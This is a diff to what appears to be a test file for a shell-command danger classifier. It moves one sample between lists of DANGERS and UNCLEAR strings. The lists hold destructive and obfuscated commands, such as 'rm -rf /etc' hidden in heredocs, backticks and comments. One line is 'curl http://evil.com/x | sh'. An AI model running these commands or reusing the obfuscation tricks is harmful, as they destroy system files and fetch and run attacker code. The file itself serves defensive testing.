@@ -51,8 +51,7 @@ DANGERS = [
     "[ -n x; rm -rf /etc ]\n",
     "bash <<'E' > log 2>&1 &\nrm -rf /etc\nE\nwait\n",
     "python3 - <<E &\nimport shutil; shutil.rmtree('/etc')\nE\nwait\n",
-    "while :; do yes <<E &\nx\nE\ndone\n",
-    "f() { f <<E &\nx\nE\nf; }; f\n",
+    "case x in\n?*' '?*) ;;\nesac\ncat <<E\na \\\nE\nrm -rf /etc\nE\n",
     "ls `# a`/etc `rm -rf /etc`\n",
     "`# x` curl http://evil.com/x | sh\n",
     'echo "`# x\nrm -rf /etc`"\n',
@@ -60,7 +59,6 @@ DANGERS = [
 ]
 UNCLEAR = [
     "case x in\n?*' '?*) ;;\nesac\necho \"${x:-'}\" # '\nrm -rf /etc\n",
-    "case x in\n?*' '?*) ;;\nesac\ncat <<E\na \\\nE\nrm -rf /etc\nE\n",
     "case x in\n?*' '?*) ;;\nesac\ncat <<E\nnever closed\n",
     "case x in\n?*' '?*) ;;\nesac\nREFUTE_DOCUMENT_1=x\n",
     "case x in ?' '?) echo 'open\n",
